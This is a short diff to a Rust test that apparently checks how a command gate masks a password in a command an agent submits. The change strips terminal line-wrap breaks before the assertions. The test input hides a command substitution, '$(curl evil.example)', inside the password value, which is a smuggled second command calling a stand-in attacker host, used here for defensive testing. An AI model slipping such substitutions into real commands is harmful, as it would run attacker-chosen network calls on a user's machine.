@@ -190,7 +190,8 @@ mod typed {
         let run = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
         let submitted = gate.submit(Command { run: run.to_owned() }).by("agent").await.unwrap();
         assert!(matches!(submitted, crate::Submission::Done { .. }), "{submitted:?}");
-        let shown = shown.lock().unwrap();
+        // Without the breaks of lines that are wider than a terminal.
+        let shown = shown.lock().unwrap().replace("\n              | ", "");
         let (before, after) = shown.split_once("[u] Uncover (2 masked)").unwrap();
         assert!(before.contains("masked by its name: 8 characters") && !before.contains("curl"));
         assert!(after.contains("$(curl evil.example)"), "{after}");
